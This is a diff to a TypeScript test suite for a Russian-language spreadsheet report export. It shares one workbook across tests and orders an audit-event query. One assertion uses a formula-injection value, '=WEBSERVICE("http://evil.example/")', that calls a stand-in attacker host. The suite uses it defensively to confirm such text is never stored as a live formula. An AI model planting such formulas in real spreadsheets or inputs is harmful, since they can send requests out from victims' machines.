@@ -36,7 +36,8 @@ async function workbookOf(k: number, filters: Record<string, string> = {}) {
   return { download, workbook, bytes }
 }
 
-type Workbook = Awaited<ReturnType<typeof workbookOf>>['workbook']
+const third = await workbookOf(3)
+type Workbook = (typeof third)['workbook']
 
 function sheetOf(workbook: Workbook, name: string): ExcelJS.Worksheet {
   const sheet = workbook.getWorksheet(name)
@@ -92,7 +93,10 @@ it('is a download with its name in Russian, and leaves an audit row', async () =
     `attachment; filename="report-2025-2026.xlsx"; filename*=UTF-8''${encodeURIComponent('Отчет по показателям 2025–2026.xlsx')}`,
   )
   expect(answer.headers.get('cache-control')).toBe('private, no-store')
-  const audit = await db().auditEvent.findFirstOrThrow({ where: { action: 'report.export' } })
+  const audit = await db().auditEvent.findFirstOrThrow({
+    where: { action: 'report.export' },
+    orderBy: { id: 'desc' },
+  })
   expect(audit).toMatchObject({
     userId: world.managers[3],
     entity: 'company',
@@ -143,22 +147,21 @@ it('of one category: its indicators alone, told in the name of the file and on t
   expect((await client.get(`${lead}2000000000`)).status).toBe(404)
   const category = await db().metricCategory.findUniqueOrThrow({ where: { id: world.categoryId } })
   const others = await db().metric.findMany({ where: { metricCategoryId: { not: category.id } } })
-  const whole = await workbookOf(3)
   const one = await workbookOf(3, { metric_category_id: String(category.id) })
   const conditions = (workbook: Workbook) =>
     valuesOf(sheetOf(workbook, 'Условия')).find(([label]) => label === 'Категория')?.[1]
-  expect([conditions(whole.workbook), conditions(one.workbook)]).toEqual(['все', category.name])
+  expect([conditions(third.workbook), conditions(one.workbook)]).toEqual(['все', category.name])
   expect(one.download.name).toBe(`Отчет по показателям 2025, ${category.shortName}`)
   const names = valuesOf(sheetOf(one.workbook, 'Отчёт')).map(([name]) => name)
   expect(names).toContain('Частота')
   expect(names).not.toContain(others[0]?.name)
-  expect(valuesOf(sheetOf(whole.workbook, 'Отчёт')).map(([name]) => name)).toContain(others[0]?.name)
+  expect(valuesOf(sheetOf(third.workbook, 'Отчёт')).map(([name]) => name)).toContain(others[0]?.name)
   expect(valuesOf(sheetOf(one.workbook, 'Определения'))).toHaveLength(5)
-  expect(figuresOf(one.workbook, 'Частота')).toEqual(figuresOf(whole.workbook, 'Частота'))
+  expect(figuresOf(one.workbook, 'Частота')).toEqual(figuresOf(third.workbook, 'Частота'))
 })
 
 it('the second sheet cell by cell: the numbers of the report, units, own source data', async () => {
-  const { workbook } = await workbookOf(3)
+  const { workbook } = third
   const sheet = sheetOf(workbook, 'Отчёт')
   expect(valuesOf(sheet)[0]).toEqual([
     'Показатель',
@@ -251,7 +254,7 @@ it('every figure is the answer’s for the same filters, of its decimals; rows a
 })
 
 it('the intervals of places are those of the rating', async () => {
-  const { workbook } = await workbookOf(3)
+  const { workbook } = third
   const rating = await signedIn(world.managers[3] ?? 0).then((client) =>
     client.get(`/api/analytics-rating?year=2025&metric_category_id=${world.categoryId}`),
   )
@@ -299,7 +302,7 @@ it('numbers have their decimals and signs, the header stays and is printed on ev
 })
 
 it('the last sheet: definitions, the order of the target and the target by their names', async () => {
-  const { workbook } = await workbookOf(3)
+  const { workbook } = third
   const rows = valuesOf(sheetOf(workbook, 'Определения'))
   expect(rows[0]?.slice(5, 8)).toEqual(['Порядок цели', 'Целевое значение', 'Своя цель'])
   expect(rows.find((row) => row[1] === '=WEBSERVICE("http://evil.example/")')).toEqual([
@@ -322,7 +325,7 @@ it('the last sheet: definitions, the order of the target and the target by their
 })
 
 it('I9 text is text, whatever it begins with, and no cell is a formula or not a number', async () => {
-  const { workbook } = await workbookOf(3)
+  const { workbook } = third
   let texts = 0
   for (const sheet of workbook.worksheets) {
     sheet.eachRow((row) => {
